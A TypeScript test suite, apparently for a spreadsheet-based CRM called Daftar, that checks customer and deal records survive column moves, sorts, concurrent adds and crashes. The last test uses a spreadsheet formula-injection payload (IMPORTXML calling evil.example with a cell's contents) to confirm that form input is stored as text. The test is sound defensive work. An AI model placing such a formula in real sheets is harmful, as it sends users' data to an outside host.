// The defects that were found in the source of other CRMs in a sheet, each as what Daftar does instead. All of them lose
// or misplace data in ordinary use; the list is that of rivals.md, as far as it concerns storage.

import type { CellValue } from '../../host/grid/grid';
import type { Outcome } from '../../host/host';
import type { Answer } from '../../src/entry/rpc';
import { fieldNames } from '../../src/kernel/schema/table';
import { customersTable } from '../../src/modules/customers/index';
import type { LeadAdded } from '../../src/modules/deals/index';
import { aDealToImport, aLead } from '../support/builders';
import { aLiveBook, type Daftar, type DaftarOptions, mustEndWell, setUpDaftar } from '../support/daftar';
import { aSubmission, postLead } from '../support/door';

const PEOPLE = ['Aziz', 'Barno', 'Davron'];

/** Three customers, M-1 to M-3, each with a deal, B-1 to B-3. */
function withThree(options: DaftarOptions = {}): Daftar {
  const daftar = setUpDaftar(options);
  const deals = PEOPLE.map((name, index) =>
    aDealToImport({ customer: { name, contact: `+99890${index + 1}000000` }, need: `${name} ishi`, amount: 100 }),
  );
  mustEndWell(daftar.call('importDeals', [{ requestId: 'three', deals }]));
  return daftar;
}

function addElyor(daftar: Daftar): Outcome<Answer<LeadAdded>> {
  return daftar.call('addLead', [aLead({ requestId: 'elyor', contact: '90 444 44 44', name: 'Elyor', need: 'Eshik' })]);
}

/** Changes, removes or restores a record, and looks afterwards whether it arrived, as a page does. */
function act(daftar: Daftar, door: string, input: Readonly<Record<string, unknown>>): Outcome<Answer<unknown>> {
  const outcome = daftar.call<Answer<unknown>>(door, [
    { requestId: JSON.stringify([door, input]).slice(0, 60), ...input },
  ]);
  daftar.beforeCall(null);
  daftar.call('settle');
  return outcome;
}

/** Number and name of each customer, in the order of the numbers; blank rows are none. */
function names(daftar: Daftar): unknown[] {
  const customers = daftar.records('Mijozlar').filter(({ Raqami }) => Raqami !== undefined);
  return customers.map(({ Raqami, Ism }) => `${Raqami} ${Ism}`).sort();
}

/** The whole of a sheet: values and formulas. */
function cellsOf({ grid, sheetId }: Daftar, sheet: string): (CellValue | string)[][] {
  const id = sheetId(sheet);
  const area = { row: 1, column: 1, rows: grid.lastRow(id), columns: grid.lastColumn(id) };
  return grid.read(id, area).map((row) => row.map(({ value, formula }) => formula || value));
}

function write(
  { grid, sheetId }: Daftar,
  sheet: string,
  [row, column]: readonly [number, number],
  value: CellValue,
): void {
  grid.write(sheetId(sheet), row, column, [[{ value }]]);
}

/** Sorts the customers by name, the last one first. */
function sortCustomers({ grid, sheetId }: Daftar): void {
  const id = sheetId('Mijozlar');
  const area = { row: 2, column: 1, rows: grid.lastRow(id) - 1, columns: grid.lastColumn(id) };
  grid.sort(id, area, [{ column: 2, ascending: false }]);
}

const MOMENT = /^(?:Range\.[gs]etValues|SpreadsheetApp\.flush|Lock\.\w+)$/;

/** Runs the action anew for each of its reads, writes and locks, with something happening just before that call. */
function atEachMoment(
  action: (daftar: Daftar) => void,
  happens: (daftar: Daftar) => void,
  look: (daftar: Daftar) => void,
) {
  for (let moment = 0; ; moment += 1) {
    const daftar = withThree();
    let seen = 0;
    daftar.beforeCall((call) => {
      if (!MOMENT.test(call) || seen++ !== moment) return;
      daftar.beforeCall(null);
      happens(daftar);
    });
    action(daftar);
    daftar.beforeCall(null);
    if (seen <= moment) return expect(moment).toBeGreaterThan(5);
    look(daftar);
  }
}

describe('columns', () => {
  it('may be inserted in front of ours and moved about: each value goes under its own heading', () => {
    const daftar = withThree();
    const id = daftar.sheetId('Mijozlar');
    daftar.grid.insertColumns(id, 1, 2);
    daftar.grid.moveColumns(id, 4, 1, 7);
    write(daftar, 'Mijozlar', [1, 1], 'Bolalari');

    mustEndWell(addElyor(daftar));
    mustEndWell(act(daftar, 'changeRecord', { table: 'customers', id: 'M-2', values: { note: 'VIP' } }));

    expect(names(daftar)).toEqual(['M-1 Aziz', 'M-2 Barno', 'M-3 Davron', 'M-4 Elyor']);
    expect(daftar.records('Mijozlar')[1]).toMatchObject({ Raqami: 'M-2', Ism: 'Barno', Izoh: 'VIP' });
    expect(cellsOf(daftar, 'Mijozlar').map(([first, second]) => [first, second])).toEqual([
      ['Bolalari', null],
      ...Array.from({ length: 4 }, () => [null, null]),
    ]);
  });

  it.each(['Имя', 'customer', 'XARIDOR', ' Firma  nomi ', 'Исм', 'Kimligi'])(
    'whose heading becomes %j are still written',
    (heading) => {
      const daftar = withThree();
      write(daftar, 'Mijozlar', [1, 2], heading);

      mustEndWell(addElyor(daftar));
      mustEndWell(act(daftar, 'changeRecord', { table: 'customers', id: 'M-1', values: { name: 'Azizbek' } }));

      expect(daftar.records('Mijozlar').map((row) => row[heading])).toEqual(['Azizbek', 'Barno', 'Davron', 'Elyor']);
      expect(cellsOf(daftar, 'Mijozlar')[0]).toHaveLength(fieldNames(customersTable).length);
    },
  );

  it('that are gone are not left out of a write: it is refused with a sentence, and nothing is written', () => {
    const daftar = withThree();
    daftar.grid.deleteColumns(daftar.sheetId('Mijozlar'), 2, 1);
    const before = ['Mijozlar', 'Bitimlar', 'Oʻzgarishlar tarixi'].map((sheet) => cellsOf(daftar, sheet));

    const outcomes = [
      addElyor(daftar),
      act(daftar, 'changeRecord', { table: 'customers', id: 'M-1', values: { name: 'Azizbek' } }),
    ];

    for (const outcome of outcomes) {
      expect(outcome.ok ? '' : outcome.error.message).toContain('Ustun topilmadi: Mijozlar varagʻida Ism.');
    }
    expect(['Mijozlar', 'Bitimlar', 'Oʻzgarishlar tarixi'].map((sheet) => cellsOf(daftar, sheet))).toEqual(before);
  });
});

describe('a sort while a record is being written', () => {
  it('does not put the change on another customer', () => {
    atEachMoment(
      (daftar) =>
        act(daftar, 'changeRecord', { table: 'customers', id: 'M-1', values: { note: 'VIP', source: 'Sayt' } }),
      sortCustomers,
      (daftar) => {
        expect(names(daftar)).toEqual(['M-1 Aziz', 'M-2 Barno', 'M-3 Davron']);
        expect(
          daftar.records('Mijozlar').flatMap(({ Raqami, Izoh }) => (Izoh === undefined ? [] : [[Raqami, Izoh]])),
        ).toEqual([['M-1', 'VIP']]);
      },
    );
  });

  it('does not let another customer be deleted', () => {
    atEachMoment(
      (daftar) => act(daftar, 'removeRecord', { table: 'customers', id: 'M-1' }),
      sortCustomers,
      (daftar) => expect(names(daftar)).toEqual(['M-2 Barno', 'M-3 Davron']),
    );
  });
});

describe('a cell', () => {
  it('with false stays false, and is no blank, through a change, a removal and a restoration', () => {
    const daftar = withThree();
    write(daftar, 'Mijozlar', [2, 6], false);
    write(daftar, 'Mijozlar', [1, 8], 'Mening belgim');
    write(daftar, 'Mijozlar', [3, 8], false);

    mustEndWell(act(daftar, 'changeRecord', { table: 'customers', id: 'M-1', values: { source: 'Sayt' } }));
    mustEndWell(act(daftar, 'changeRecord', { table: 'customers', id: 'M-2', values: { source: 'Sayt' } }));
    const changed = daftar.records('Mijozlar').map((row) => [row.Izoh, row['Mening belgim']]);
    mustEndWell(act(daftar, 'removeRecord', { table: 'customers', id: 'M-1' }));
    mustEndWell(act(daftar, 'restoreRecord', { table: 'customers', id: 'M-1' }));

    expect(changed).toEqual([
      [false, undefined],
      [undefined, false],
      [undefined, undefined],
    ]);
    expect(daftar.records('Mijozlar').find(({ Raqami }) => Raqami === 'M-1')).toMatchObject({
      Ism: 'Aziz',
      Izoh: false,
    });
  });

  it('that a change does not name keeps what it has', () => {
    const daftar = withThree();
    const [before] = daftar.records('Bitimlar');

    mustEndWell(act(daftar, 'changeRecord', { table: 'deals', id: 'B-1', values: { nextStep: 'Qoʻngʻiroq' } }));

    expect(daftar.records('Bitimlar')[0]).toEqual({ ...before, 'Keyingi qadam': 'Qoʻngʻiroq' });
  });

  it('into which people typed a formula keeps it when the rest of the row changes', () => {
    const daftar = withThree(aLiveBook());
    const id = daftar.sheetId('Bitimlar');
    daftar.grid.insertColumns(id, 5, 1);
    daftar.grid.write(id, 2, 5, [[{ formula: '=LEN(D2)' }, { formula: '=50+50' }]]);

    mustEndWell(act(daftar, 'changeRecord', { table: 'deals', id: 'B-1', values: { need: 'Deraza', nextStep: 'x' } }));

    const [cells] = daftar.grid.read(id, { row: 2, column: 4, rows: 1, columns: 3 });
    expect(cells?.map(({ value, formula }) => formula || value)).toEqual(['Deraza', '=LEN(D2)', '=50+50']);
  });
});

describe('the heading row', () => {
  it('is never taken for a record, also in a table without any', () => {
    const daftar = setUpDaftar();
    const before = cellsOf(daftar, 'Mijozlar');

    const outcomes = [
      act(daftar, 'removeRecord', { table: 'customers', id: 'Raqami' }),
      act(daftar, 'changeRecord', { table: 'customers', id: 'Raqami', values: { name: 'x' } }),
    ];
    const joined = mustEndWell(
      daftar.call('importDeals', [{ requestId: 'i', deals: [{ customer: { name: 'Ism' }, stage: 'new' }] }]),
    );

    expect(outcomes.map(({ ok }) => ok)).toEqual([false, false]);
    expect(joined).toEqual({ customers: 1, deals: 1, sales: 0 });
    expect(cellsOf(daftar, 'Mijozlar')[0]).toEqual(before[0]);
    expect(names(daftar)).toEqual(['M-1 Ism']);
  });
});

describe('two who add at once', () => {
  it('get two numbers and two rows, whenever the one comes in between the other’s calls', () => {
    const rival = aLead({ requestId: 'rival', contact: '90 555 55 55', name: 'Feruza' });
    let told: Outcome<Answer<LeadAdded>>;

    atEachMoment(
      (daftar) => mustEndWell(addElyor(daftar)),
      (daftar) => {
        told = daftar.call('addLead', [rival]);
      },
      (daftar) => {
        // Only whoever was told that the sheet is busy sends the same once more.
        if (!told.ok) told = daftar.call('addLead', [rival]);

        const added = mustEndWell(told);
        expect(names(daftar)).toHaveLength(5);
        expect(names(daftar)).toEqual(expect.arrayContaining([expect.stringMatching(/^M-[45] Elyor$/)]));
        expect(names(daftar)).toContain(`${added.ok ? added.value.customerId : ''} Feruza`);
        expect(new Set(daftar.records('Mijozlar').map(({ Raqami }) => Raqami)).size).toBe(5);
      },
    );
  });
});

describe('rows of others', () => {
  it('are not erased by a write that began before them', () => {
    atEachMoment(
      (daftar) => act(daftar, 'changeRecord', { table: 'customers', id: 'M-2', values: { note: 'VIP' } }),
      (daftar) => {
        const { grid } = daftar;
        const id = daftar.sheetId('Mijozlar');
        grid.insertRows(id, 2, 1);
        grid.write(id, 2, 1, [[{ value: '' }, { value: 'Gulnora' }]]);
        grid.write(id, grid.lastRow(id) + 1, 2, [[{ value: 'Hasan' }]]);
      },
      (daftar) =>
        expect(daftar.records('Mijozlar').map(({ Ism, Izoh }) => (Izoh ? `${Ism} ${Izoh}` : Ism))).toEqual([
          ...['Gulnora', 'Aziz', 'Barno VIP', 'Davron', 'Hasan'],
        ]),
    );
  });

  it.each([
    ['changeRecord', ['M-1 Aziz', 'M-2 Barno', 'M-3 Davron']],
    ['removeRecord', ['M-1 Aziz', 'M-3 Davron']],
    ['importDeals', ['M-1 Aziz', 'M-2 Barno', 'M-3 Davron', 'M-4 Elyor']],
  ])('are all there after a crash at any write of %s', (door, left) => {
    const other = { requestId: 'c', table: 'customers', id: 'M-2', values: { note: 'VIP' } };
    const input =
      door === 'importDeals' ? { requestId: 'c', deals: [{ customer: { name: 'Elyor' }, stage: 'new' }] } : other;

    atEachMoment(
      (daftar) => void daftar.call(door, [input]),
      () => {
        throw new Error('The machine died.');
      },
      (daftar) => {
        expect(names(daftar)).toEqual(expect.arrayContaining(['M-1 Aziz', 'M-3 Davron']));
        mustEndWell(daftar.call(door, [input]));
        mustEndWell(daftar.call('settle'));

        expect(names(daftar)).toEqual(left);
      },
    );
  });
});

describe('a number', () => {
  it.each<[string, (daftar: Daftar) => void]>([
    ['removed', (daftar) => void mustEndWell(act(daftar, 'removeRecord', { table: 'customers', id: 'M-3' }))],
    ['deleted with its row by hand', ({ grid, sheetId }) => grid.deleteRows(sheetId('Mijozlar'), 4, 1)],
    ['followed by blank rows', ({ grid, sheetId }) => grid.insertRows(sheetId('Mijozlar'), 2, 3)],
  ])('is given once: not again after the last record was %s', (_, deed) => {
    const daftar = withThree();
    deed(daftar);

    mustEndWell(addElyor(daftar));

    expect(names(daftar).at(-1)).toBe('M-4 Elyor');
  });
});

describe('a deal that is closed', () => {
  it('stays in its table under its number, with its history, and the number is not used again', () => {
    const daftar = withThree();

    mustEndWell(act(daftar, 'changeRecord', { table: 'deals', id: 'B-3', values: { stage: 'Toʻlandi' } }));
    mustEndWell(addElyor(daftar));

    expect(daftar.records('Bitimlar').map(({ Raqami, Bosqich }) => [Raqami, Bosqich])).toEqual([
      ['B-1', 'Yangi lid'],
      ['B-2', 'Yangi lid'],
      ['B-3', 'Toʻlandi'],
      ['B-4', 'Yangi lid'],
    ]);
    const history = daftar.records('Oʻzgarishlar tarixi').filter(({ Yozuv }) => Yozuv === 'B-3');
    expect(history.map((line) => [line.Maydon, line['Avvalgi qiymat'] !== undefined])).toEqual([
      [undefined, false],
      ...['stage', 'stageKey', 'stageSince', 'reached'].map((field) => [field, true]),
      ['wonAt', true],
      ['agreedAt', true],
    ]);
  });
});

describe('the text of a public form', () => {
  it('is written as text, and never as a formula', () => {
    const daftar = setUpDaftar();
    const text = '=IMPORTXML("http://evil.example/?"&A1,"//a")';

    postLead(daftar, aSubmission(daftar, { name: text, need: text }));

    expect(cellsOf(daftar, 'Mijozlar')[1]?.[1]).toBe(text);
    expect(
      daftar.grid.read(daftar.sheetId('Mijozlar'), { row: 2, column: 2, rows: 1, columns: 1 })[0]?.[0]?.formula,
    ).toBe('');
  });
});
